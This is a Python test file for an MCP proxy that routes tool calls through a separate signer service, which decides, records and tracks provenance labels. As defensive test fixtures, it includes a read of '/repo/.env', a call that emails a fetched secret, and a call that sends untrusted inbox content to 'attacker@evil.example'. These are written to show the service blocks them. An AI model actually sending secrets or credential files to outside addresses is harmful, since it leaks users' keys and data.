"""The MCP proxy in front of the signer service (`mcp proxy --signer`): the service decides, records, keeps
the session's labels and the descriptor pins; the proxy holds no policy, ledger or key. Real processes:
`countersign serve --socket`, the proxy, the official Python MCP SDK as client and server."""

import json
import os
import signal
import subprocess
import time

import pytest
from mcp import Client, StdioServerParameters

from test_mcp_proxy import BIN, POLICY, decline, fixture_server, text

pytestmark = pytest.mark.anyio


@pytest.fixture
def anyio_backend():
    return "asyncio"


@pytest.fixture
def service(tmp_path):
    state = tmp_path / "service"
    state.mkdir()
    # Asks expire after 2 s here: nobody reviews in the service's inbox during the test.
    (state / "policy.yaml").write_text(POLICY.replace(
        "    reason: An argument of this call came from an untrusted tool output.",
        "    reason: An argument of this call came from an untrusted tool output.\n    approvals: {timeout: 2s}"))
    socket_path = tmp_path / "signer.sock"
    env = {**os.environ, "COUNTERSIGN_HOME": str(state)}
    process = subprocess.Popen([BIN, "serve", "--socket", str(socket_path)], cwd=state, env=env,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.time() + 30
    while not socket_path.exists():
        assert process.poll() is None, process.stderr.read()
        assert time.time() < deadline, "the signer did not start"
        time.sleep(0.05)
    yield {"state": state, "socket": socket_path, "process": process, "env": env}
    if process.poll() is None:
        process.send_signal(signal.SIGTERM)
        process.wait(timeout=20)


def proxy_through(service, project):
    args = ["mcp", "proxy", "--signer", f"unix:{service['socket']}", "--approval", "auto", "--",
            *fixture_server()]
    environment = {**os.environ, "COUNTERSIGN_HOME": str(project / ".countersign")}
    return StdioServerParameters(command=BIN, args=args, env=environment, cwd=str(project))


def service_receipts(service):
    out = subprocess.run([BIN, "receipts", str(service["state"] / "ledger.sqlite"), "--format", "jsonl"],
                         capture_output=True, text=True, check=True, env=service["env"])
    return [json.loads(line) for line in out.stdout.splitlines() if line.strip()]


async def test_the_service_decides_records_and_keeps_the_labels(service, tmp_path):
    project = tmp_path / "project"
    project.mkdir()
    async with Client(proxy_through(service, project), mode="legacy", elicitation_callback=decline()) as client:
        tools = await client.list_tools()
        assert "read_note" in {t.name for t in tools.tools}
        allowed = await client.call_tool("read_note", {"name": "todo"})
        assert not allowed.is_error and "note todo" in text(allowed)
        denied = await client.call_tool("read_note", {"name": "x", "path": "/repo/.env"})
        assert denied.is_error and "env_files" in text(denied)
        # Provenance lives in the service: the secret's label, set by the outcome, stops the next call.
        secret = await client.call_tool("get_secret", {"name": "stripe"})
        leak = await client.call_tool("send", {"to": "ops@example.com", "body": f"key: {text(secret)}"})
        assert leak.is_error and "secrets_do_not_leave" in text(leak)
        # An ask waits for the service's reviewers (none here), never the client's dialog (which would decline).
        inbox = await client.call_tool("read_note", {"name": "inbox"})
        ask = await client.call_tool("send", {"to": "attacker@evil.example", "body": text(inbox)})
        assert ask.is_error and "ask->expired" in text(ask)

    # The proxy kept nothing of the record: no ledger, key or policy in the project.
    kept = {p.name for p in (project / ".countersign").iterdir()} if (project / ".countersign").exists() else set()
    assert not kept & {"ledger.sqlite", "signing-key", "policy.yaml", "sessions.sqlite", "mcp-pins.sqlite"}
    assert (service["state"] / "mcp-pins.sqlite").exists()

    records = service_receipts(service)
    decisions = [(r["action"]["tool"], r["decision"]) for r in records if r["kind"] == "decision"]
    assert decisions[:5] == [("read_note", "allow"), ("read_note", "deny"), ("get_secret", "allow"),
                             ("send", "deny"), ("read_note", "allow")]
    assert decisions[-1] == ("send", "ask->expired")
    outcomes = [r for r in records if r["kind"] == "outcome"]
    assert [o["action"]["tool"] for o in outcomes] == ["read_note", "get_secret", "read_note"]
    events = {r["status"] for r in records if r["kind"] == "event"}
    assert {"session", "descriptors-pinned"} <= events
    # Every receipt names its caller as the kernel measured it: this test's user, the proxy's pid.
    callers = {(r["caller"]["uid"], r["caller"]["isolation"]) for r in records if r["kind"] != "checkpoint"}
    assert callers == {(os.getuid(), "same-user")}
    verify = subprocess.run([BIN, "verify", str(service["state"] / "ledger.sqlite")], capture_output=True,
                            text=True, env=service["env"])
    assert verify.returncode == 0, verify.stdout + verify.stderr


async def test_a_stopped_service_blocks_every_call(service, tmp_path):
    project = tmp_path / "project"
    project.mkdir()
    async with Client(proxy_through(service, project), mode="legacy", elicitation_callback=decline()) as client:
        await client.list_tools()
        assert not (await client.call_tool("read_note", {"name": "todo"})).is_error
        service["process"].send_signal(signal.SIGTERM)
        service["process"].wait(timeout=20)
        blocked = await client.call_tool("read_note", {"name": "todo"})
        assert blocked.is_error
        assert f"unix:{service['socket']}" in text(blocked) and "unreachable" in text(blocked)


def test_embedded_options_with_a_signer_are_refused(tmp_path):
    result = subprocess.run([BIN, "mcp", "proxy", "--signer", "unix:/nonexistent.sock", "--policy", "p.yaml", "--",
                             "true"], capture_output=True, text=True, cwd=tmp_path)
    assert result.returncode == 64 and "--policy cannot be used with a signer" in result.stderr
